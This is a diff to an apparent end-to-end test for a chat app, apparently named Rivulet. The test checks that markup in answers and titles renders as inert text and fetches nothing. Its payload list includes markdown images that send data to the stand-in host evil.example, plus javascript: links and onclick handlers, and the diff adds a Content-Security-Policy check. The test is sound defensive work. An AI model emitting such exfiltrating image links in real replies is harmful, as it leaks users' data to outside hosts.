@@ -99,6 +99,7 @@ test('markup in an answer or a title is text, and nothing is fetched for it', as
     '<iframe src="https://evil.example/frame"></iframe>',
     '<style>body { display: none }</style>',
     '![a picture](https://evil.example/leak.png?said=secret)',
+    '![by reference][leak]\n\n[leak]: https://evil.example/leak.png?said=more',
     '[click me](javascript:window.hacked=3)',
     '<a href="data:text/html,hello" onclick="window.hacked = 4">a link</a>',
   ]
@@ -109,6 +110,8 @@ test('markup in an answer or a title is text, and nothing is fetched for it', as
   await chat.finished()
   await expect(chat.chat(title)).toBeVisible()
 
+  const policy = (await page.request.get('/')).headers()['content-security-policy']
+  expect(policy).toContain("img-src 'self' data: blob:;")
   for (const again of [false, true]) {
     if (again) await page.reload()
     await chat.ready()
@@ -123,6 +126,7 @@ test('markup in an answer or a title is text, and nothing is fetched for it', as
       'rel',
       /noopener.*noreferrer/,
     )
+    await expect(chat.answer.getByRole('link', { name: /by reference/ })).toBeVisible()
     await expect(page).toHaveTitle(`${title} — Rivulet`)
     expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined()
   }
